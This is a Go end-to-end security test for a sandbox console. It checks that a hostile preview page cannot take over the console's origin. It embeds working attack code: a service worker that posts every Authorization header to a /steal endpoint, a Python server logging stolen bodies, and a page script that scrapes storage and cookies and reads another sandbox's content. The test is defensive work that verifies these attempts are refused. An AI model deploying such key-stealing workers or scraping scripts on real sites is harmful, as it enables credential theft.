package e2e

import (
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hutchdev/hutch/client"
)

// attackServer is the hostile app in TestAttackBrowser's sandboxes:
// Python's standard library, serving its directory with the header that
// lets a service worker take the whole origin (Service-Worker-Allowed:
// /), and writing what is POSTed to /steal into steal.log.
const attackServer = `
import http.server, sys

class Handler(http.server.SimpleHTTPRequestHandler):
    def end_headers(self):
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Cache-Control", "no-store")
        super().end_headers()

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open("steal.log", "ab") as f:
            f.write(body + b"\n")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass

http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
`

// attackWorker, registered for the console's origin, would send the
// Authorization of every later request (the console's key) to the app.
const attackWorker = `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const auth = e.request.headers.get("Authorization");
  if (auth) fetch(new URL("steal", self.location), { method: "POST", body: auth });
});
`

// attackPage tries what a page of a path-routed preview could do on the
// console's origin: read its storage (the console keeps its key in
// sessionStorage) and cookies, register a service worker for / and for
// its own path, call the API, and read another sandbox's preview, which
// the browser holds a link's cookie for (OTHER, in its query). It writes
// what it got into #out.
const attackPage = `<!doctype html>
<title>preview</title>
<pre id="out"></pre>
<script>
(async () => {
  const out = {};
  const grab = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = "refused: " + e.name; } };
  grab("origin", () => self.origin);
  grab("session", () => JSON.stringify(Object.entries(sessionStorage)));
  grab("local", () => JSON.stringify(Object.entries(localStorage)));
  grab("cookie", () => document.cookie);
  const register = async (name, opts) => {
    try {
      if (!("serviceWorker" in navigator) || !navigator.serviceWorker) throw new Error("no navigator.serviceWorker");
      const reg = await navigator.serviceWorker.register("sw.js", opts);
      out[name] = "registered " + reg.scope;
    } catch (e) { out[name] = "refused: " + e.name + ": " + e.message; }
  };
  await register("rootScope", { scope: "/" });
  await register("ownScope", { scope: "./" });
  const read = async (name, url) => {
    try {
      const r = await fetch(url, { credentials: "include" });
      out[name] = r.status + " " + (await r.text()).slice(0, 200);
    } catch (e) { out[name] = "refused: " + e.name; }
  };
  await read("api", "/v1/sandboxes");
  const other = new URLSearchParams(location.search).get("other");
  if (other) await read("other", other);
  document.getElementById("out").textContent = JSON.stringify(out);
})();
</script>
`

// attackScript drives Chromium (test/console's lib.mjs): signs in to the
// console, keeps a value in its origin's localStorage, opens the other
// sandbox's link (its cookie kept), then the attack page in the same tab,
// reads what the page got, and back on the console lists its origin's
// service workers and lists the sandboxes (a request with the key, which
// a worker of the page's would see).
const attackScript = `
import { key, signIn, start, url } from "LIB";
const run = await start();
try {
  const page = await run.page();
  await page.goto(url);
  await signIn(page, key);
  await page.evaluate(() => localStorage.setItem("console-marker", "console-private-value"));
  await page.goto(process.env.OTHER_LINK);
  await page.goto(process.env.ATTACK_URL);
  await page.waitForFunction(() => document.getElementById("out")?.textContent, null, { timeout: 30_000 });
  const got = JSON.parse(await page.locator("#out").textContent());
  await page.goto(url);
  await page.getByRole("table", { name: "Sandboxes" }).waitFor();
  await page.waitForTimeout(1000);
  got.workers = await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).map((r) => r.scope).join(" "));
  console.log(JSON.stringify({ values: got }));
} finally {
  await run.close();
}
`

// TestAttackBrowser attacks the console from a path-routed preview in
// Chromium (issue 36, finding 4): one daemon serving the console and two
// sandboxes' previews by path, on the console's origin. The hostile page
// registers no service worker (for / or for its own path), reads none of
// the console's storage, calls the API with nothing, and reads no other
// preview; the console's key never reaches the app.
func TestAttackBrowser(t *testing.T) {
	r := newConsoleRunner(t)
	d := startDaemon(t)
	start := func(public bool) *client.Sandbox {
		sb := d.create(client.CreateSandboxRequest{Files: map[string]string{
			"server.py": attackServer, "index.html": attackPage, "sw.js": attackWorker, "secret.txt": "the other preview's content",
		}})
		if _, err := d.client.StartService(t.Context(), sb.ID, client.StartServiceRequest{Name: "web", Command: "python3 server.py 8000", Port: 8000, Public: public}); err != nil {
			t.Fatal(err)
		}
		waitStatus(t, d, sb.ID, "web", client.ServiceRunning)
		return sb
	}
	attacker, other := start(true), start(false)
	base := "http://" + d.addr
	link, err := d.client.ServiceLink(t.Context(), other.ID, "web", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	u, err := url.Parse(link.PathURL)
	if err != nil {
		t.Fatal(err)
	}
	otherLink := base + u.RequestURI()
	otherFile := "/v1/sandboxes/" + other.ID + "/ports/8000/secret.txt"
	attackURL := base + "/v1/sandboxes/" + attacker.ID + "/ports/8000/?other=" + url.QueryEscape(otherFile)

	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "attack.test.mjs")
	lib := "file://" + filepath.Join(r.dir, "lib.mjs")
	if err := os.WriteFile(script, []byte(strings.Replace(attackScript, "LIB", lib, 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	res := r.run(t, d, script, "ATTACK_URL="+attackURL, "OTHER_LINK="+otherLink)
	var got map[string]string
	if err := json.Unmarshal(res.Values, &got); err != nil {
		t.Fatalf("the script's values: %v: %s", err, res.Values)
	}
	t.Logf("what the preview's page got: %v", got)

	for _, name := range []string{"rootScope", "ownScope"} {
		if !strings.HasPrefix(got[name], "refused") {
			t.Errorf("a path preview's page registered a service worker (%s): %s", name, got[name])
		}
	}
	if got["workers"] != "" {
		t.Errorf("service workers of the console's origin: %s", got["workers"])
	}
	for _, name := range []string{"session", "local", "cookie"} {
		if v := got[name]; strings.Contains(v, d.key) || strings.Contains(v, "console-private-value") || strings.Contains(v, "hutch_") {
			t.Errorf("the page read the console's %s: %s", name, v)
		}
	}
	if strings.HasPrefix(got["api"], "200") {
		t.Errorf("the page called the API: %s", got["api"])
	}
	if strings.Contains(got["other"], "the other preview's content") {
		t.Errorf("the page read another sandbox's preview: %s", got["other"])
	}
	if got["origin"] == base {
		t.Errorf("the page runs in the console's origin %s", got["origin"])
	}
	stolen := d.exec(attacker.ID, "cat steal.log 2>/dev/null; true")
	if strings.Contains(stolen.Stdout, d.key) || strings.Contains(stolen.Stdout, "Bearer") {
		t.Errorf("the app got the console's key: %q", stolen.Stdout)
	}
}
